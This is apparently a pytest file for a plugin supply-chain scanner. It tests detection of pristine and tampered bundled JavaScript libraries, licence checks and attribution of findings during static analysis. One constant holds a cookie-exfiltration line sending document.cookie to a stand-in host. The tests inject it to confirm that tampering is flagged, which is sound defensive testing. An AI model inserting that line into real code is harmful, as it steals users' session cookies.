"""The libraries stage (recognised and modified copies, licences) and how js-static skips
and attributes library code; all on a synthetic library indexed in the test."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from scanner.findings import Category, Severity, StageResult
from scanner.js.parser import parser_versions  # noqa: F401 - the parser must import
from scanner.libraries.index import LibraryIndex, canonical
from scanner.licences import LicencePolicy
from scanner.policy import Policy, Verdict, decide
from scanner.stages.js_static import JsStaticStage, compiled_rules
from scanner.stages.libraries import LibrariesStage
from tests.conftest import manifest, workspace_of
from tests.paths import PROJECT_ROOT
from tests.scanner.libraries.conftest import make_index, synthetic_library

POLICY = LicencePolicy.load(PROJECT_ROOT / "rules" / "licences.toml")
PLUGIN = "var TestPlugin={mount:function(c){c.textContent='hi'}};\n"
INJECTED = b"new Image().src='https://collect.example/?c='+document.cookie;"


def _with_cookie_helper(lib: bytes) -> bytes:
    """The library reads cookies itself, mid-file, as real ones do (an XSRF helper)."""
    at = lib.index(b"}function ", len(lib) // 2) + 1
    return lib[:at] + b"function xsrf(){return document.cookie.split(';')}" + lib[at:]


COOKIE_LIB = _with_cookie_helper(synthetic_library(30_000, seed=5))


@pytest.fixture(scope="module")
def index() -> LibraryIndex:
    return make_index(
        ("tinylib", "1.2.3", "dist/tiny.min.js", COOKIE_LIB, "MIT"),
        ("gpllib", "2.0.0", "dist/gpl.js", synthetic_library(20_000, seed=6), "GPL-3.0-only"),
        ("oddlib", "0.1.0", "odd.js", synthetic_library(20_000, seed=7), "Made-Up-1.0"),
    )


def _stage(index: LibraryIndex) -> LibrariesStage:
    return LibrariesStage(index, POLICY, 20 * 1024 * 1024)


def _run(index: LibraryIndex, tmp_path: Path, js: bytes, **plugin: object) -> StageResult:
    files: dict[str, str | bytes] = {
        "plugin.json": json.dumps(manifest(**plugin)),
        "dist/bundle.js": js,
    }
    return _stage(index).run(workspace_of(tmp_path, files))


def test_a_pristine_copy_is_reported_for_information(index: LibraryIndex, tmp_path: Path) -> None:
    result = _run(index, tmp_path, PLUGIN.encode() + COOKIE_LIB)
    [found] = result.findings
    assert (found.rule_id, found.severity, found.library) == (
        "library-recognised",
        Severity.INFO,
        "tinylib@1.2.3",
    )
    assert "whole and unchanged" in found.message and found.line == 2
    [copy] = result.raw["copies"]
    assert copy["kind"] == "pristine" and copy["licence"] == "MIT"
    # The SBOM (scanner/sbom.py) lists it as the npm package it is.
    [component] = result.raw["components"]
    assert component["purl"] == "pkg:npm/tinylib@1.2.3" and not component["dev"]


def test_a_modified_copy_is_critical_and_shows_the_injected_code(
    index: LibraryIndex, tmp_path: Path
) -> None:
    body = canonical(COOKIE_LIB)
    at = len(body) // 3
    js = PLUGIN.encode() + body[:at] + INJECTED + body[at:]
    result = _run(index, tmp_path, js)
    [hit] = [f for f in result.findings if f.rule_id == "library-modified"]
    assert hit.severity is Severity.CRITICAL and hit.category is Category.SUPPLY_CHAIN
    assert hit.evidence == INJECTED.decode()
    details = dict(hit.details)
    start = len(PLUGIN) + at
    assert details["bundle_span"] == f"{start}-{start + len(INJECTED)}"
    assert details["published_span"] == f"{at}-{at}" and details["exact"] == "true"
    # Never excused as the library's own code: it counts against the plugin.
    assert hit.library is None
    policy = Policy.load(PROJECT_ROOT / "rules" / "policy.toml")
    assert decide(result.findings, [result], policy).verdict is Verdict.REJECT


def test_a_missing_plugin_licence_is_shown_and_the_policy_decides(
    index: LibraryIndex, tmp_path: Path
) -> None:
    data = manifest()
    del data["license"]
    ws = workspace_of(tmp_path, {"plugin.json": json.dumps(data), "dist/bundle.js": PLUGIN})
    result = _stage(index).run(ws)
    [f] = result.findings
    assert f.rule_id == "licence-missing" and f.category is Category.LICENSE
    shipped = Policy.load(PROJECT_ROOT / "rules" / "policy.toml")
    assert decide(result.findings, [result], shipped).verdict is Verdict.PASS
    strict = PROJECT_ROOT / "rules" / "policy.toml"
    text = strict.read_text().replace(
        'licence-missing = { action = "pass" }', 'licence-missing = { action = "review" }'
    )
    (tmp_path / "policy.toml").write_text(text)
    required = Policy.load(tmp_path / "policy.toml")
    assert decide(result.findings, [result], required).verdict is Verdict.REVIEW


@pytest.mark.parametrize(
    ("licence", "rule"),
    [
        ("MIT AND", "licence-invalid"),
        ("Made-Up-1.0", "licence-unknown"),
        ("SSPL-1.0", "licence-denied"),
    ],
)
def test_the_plugin_licence_is_checked(
    index: LibraryIndex, tmp_path: Path, licence: str, rule: str
) -> None:
    result = _run(index, tmp_path, PLUGIN.encode(), license=licence)
    assert [f.rule_id for f in result.findings] == [rule]
    policy = Policy.load(PROJECT_ROOT / "rules" / "policy.toml")
    verdict = decide(result.findings, [result], policy).verdict
    assert verdict is (Verdict.REJECT if rule == "licence-denied" else Verdict.REVIEW)


def test_copyleft_in_a_proprietary_plugin_is_flagged(index: LibraryIndex, tmp_path: Path) -> None:
    gpl = synthetic_library(20_000, seed=6)
    result = _run(index, tmp_path, PLUGIN.encode() + gpl, license="UNLICENSED")
    [flag] = [f for f in result.findings if f.rule_id == "licence-copyleft-in-proprietary"]
    assert "gpllib@2.0.0" in flag.message and "GPL-3.0-only" in flag.message
    assert flag.path == "dist/bundle.js"
    # The same library in an open-source plugin is no question.
    ok = _run(index, tmp_path / "open", PLUGIN.encode() + gpl, license="GPL-3.0-or-later")
    assert [f.rule_id for f in ok.findings] == ["library-recognised"]


def test_lockfile_licences_are_checked(index: LibraryIndex, tmp_path: Path) -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "p"},
            "node_modules/left": {"version": "1.0.0", "license": "GPL-2.0-only"},
            "node_modules/nolicence": {"version": "1.0.0"},
            "node_modules/devonly": {"version": "1.0.0", "dev": True},
            "node_modules/tinylib": {"version": "1.2.3"},  # the index knows: MIT
        },
    }
    files: dict[str, str | bytes] = {
        "plugin.json": json.dumps(manifest(license="UNLICENSED")),
        "dist/bundle.js": PLUGIN,
        "package-lock.json": json.dumps(lock),
    }
    result = _stage(index).run(workspace_of(tmp_path, files))
    rules = sorted(f.rule_id for f in result.findings)
    assert rules == ["licence-copyleft-in-proprietary", "licence-dependency-unknown"]
    [unknown] = [f for f in result.findings if f.rule_id == "licence-dependency-unknown"]
    assert "nolicence@1.0.0" in unknown.message and "devonly" not in unknown.message
    assert "tinylib" not in unknown.message


def test_an_unknown_library_licence_goes_to_review_with_the_reason(
    index: LibraryIndex, tmp_path: Path
) -> None:
    result = _run(index, tmp_path, PLUGIN.encode() + synthetic_library(20_000, seed=7))
    [f] = [f for f in result.findings if f.rule_id == "licence-dependency-unknown"]
    assert "oddlib@0.1.0" in f.message and "Made-Up-1.0" in f.message
    assert f.severity is Severity.MEDIUM


def _js_static(index: LibraryIndex) -> JsStaticStage:
    return JsStaticStage(compiled_rules(PROJECT_ROOT / "rules" / "js"), 20 * 1024 * 1024, index)


def test_js_static_skips_a_whole_pristine_copy(index: LibraryIndex, tmp_path: Path) -> None:
    js = PLUGIN.encode() + COOKIE_LIB
    ws = workspace_of(tmp_path, {"plugin.json": json.dumps(manifest()), "dist/bundle.js": js})
    result = _js_static(index).run(ws)
    assert not [f for f in result.findings if f.rule_id == "js-cookie-access"]
    [skipped] = result.raw["libraries_skipped"]["dist/bundle.js"]
    assert skipped["library"] == "tinylib@1.2.3"
    # Without the index the same code is analysed and its cookie read found.
    plain = _js_static(LibraryIndex()).run(ws)
    assert [f for f in plain.findings if f.rule_id == "js-cookie-access"]


def test_js_static_attributes_findings_in_a_partial_copy_and_counts_the_plugins_own(
    index: LibraryIndex, tmp_path: Path
) -> None:
    body = canonical(COOKIE_LIB)
    no_banner = body[body.index(b"\n") + 1 :]  # a bundler dropped the banner: not whole
    own = b"\nvar TestPlugin={mount:function(c){c.title=document.cookie}};\n"
    ws = workspace_of(
        tmp_path, {"plugin.json": json.dumps(manifest()), "dist/bundle.js": no_banner + own}
    )
    result = _js_static(index).run(ws)
    cookie = [f for f in result.findings if f.rule_id == "js-cookie-access"]
    assert sorted((f.library or "") for f in cookie) == ["", "tinylib@1.2.3"]
    policy = Policy.load(PROJECT_ROOT / "rules" / "policy.toml")
    reasons = decide(result.findings, [result], policy).reasons
    counted = [r for r in reasons if r.rule_id == "js-cookie-access"]
    assert len(counted) == 1  # the plugin's own read, not the library's


def test_js_static_analyses_everything_when_skipping_would_break_the_syntax(
    index: LibraryIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import scanner.stages.js_static as js_static

    real_blank = js_static.blank

    def breaking_blank(source: bytes, copies: Any) -> tuple[bytes, list[Any]]:
        blanked, done = real_blank(source, copies)
        return blanked + b"\n)(", done  # what a copy that was not standing alone leaves

    monkeypatch.setattr(js_static, "blank", breaking_blank)
    js = PLUGIN.encode() + COOKIE_LIB
    ws = workspace_of(tmp_path, {"plugin.json": json.dumps(manifest()), "dist/bundle.js": js})
    result = _js_static(index).run(ws)
    assert "libraries_skipped" not in result.raw
    assert not [f for f in result.findings if f.rule_id == "js-not-analysed"]
    # Analysed in full: the library's cookie read is found, and attributed to it.
    [cookie] = [f for f in result.findings if f.rule_id == "js-cookie-access"]
    assert cookie.library == "tinylib@1.2.3"
